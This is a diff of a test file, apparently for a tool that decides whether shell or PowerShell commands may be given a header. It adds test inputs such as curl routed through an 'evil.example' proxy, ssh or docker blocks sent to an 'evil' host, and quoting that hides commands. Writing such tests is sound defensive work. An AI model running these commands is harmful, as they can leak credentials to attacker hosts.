@@ -1488,6 +1488,8 @@ describe('who may get the header', () => {
         '# a \\\nexport \\\n  "http_proxy"="http://evil.example"\ncurl',
         'export \\\n# \\\n  "http_proxy"="http://evil.example"\ncurl',
         "BASH_ALIASES[curl]='curl -k'\ncurl",
+        'f() { :; }\nssh host "$(declare -f f); f"\ncurl',
+        'typeset -f f | ssh host bash\ncurl',
       ].map((command): Row => [
         'the environment or another curl',
         posixFormat,
@@ -1615,6 +1617,51 @@ describe('who may get the header', () => {
         /unknown 0: its script has Invoke-Command/,
         /unknown 0: its script has Invoke-Command/,
       ],
+      ...[
+        `ssh user@evil { curl -s ${url} }\n`,
+        `if ($x) { ssh evil {\n  irm ${url}\n} }\n`,
+        `docker exec c pwsh -Command { irm ${url} }\n`,
+      ].map((script): Row => [
+        'a block for another program',
+        powershellFormat,
+        script,
+        /unknown \d: its script has (?:ssh|docker)$/,
+        /unknown \d: its script has (?:ssh|docker)$/,
+      ]),
+      ...[`x.exe --% "x'\n`, "$a = ${a b's}\n"].map((start): Row => [
+        'quotes that do not quote',
+        powershellFormat,
+        `${start}$b = 1\nirm ${url}\n$c = 'x'\n`,
+        /unknown 2: its script has (?:--%|\$\{a b's\})$|^$/,
+        /unknown 2: its script has (?:--%|\$\{a b's\})$|^$/,
+      ]),
+      ...[
+        "docker ps --format '{{.Names}}'\n",
+        'ForEach-Object { 1 }\n',
+        'kubectl get pods -o jsonpath={.items}\n',
+      ].map((start): Row => [
+        'no block for another program',
+        powershellFormat,
+        `${start}irm ${url}\n`,
+        /^changed 1$/,
+        /^changed 1$/,
+      ]),
+      [
+        'a comment after an index, or a part of an argument',
+        powershellFormat,
+        `$a = $x[0]# it's\nirm ${url}\n$b = 'x'\n`,
+        /unknown 1: the quotes above it can be read in several ways$|^$/,
+        /unknown 1: the quotes above it can be read in several ways$|^$/,
+      ],
+      ...['x="`echo \\"its\\"`"', "x=`echo \\\\' \\\\'`", `x="\${y:-'}'}"`, 'x=`cat <<E\na\nE\n`'].map(
+        (start): Row => [
+          'quotes that can be read in several ways',
+          posixFormat,
+          `${start}\ncurl ${url}\n`,
+          /unknown \d: the quotes above it can be read in several ways$/,
+          /unknown \d: the quotes above it can be read in several ways$/,
+        ],
+      ),
       ...[
         '# export http_proxy=x',
         'echo "$http_proxy"',
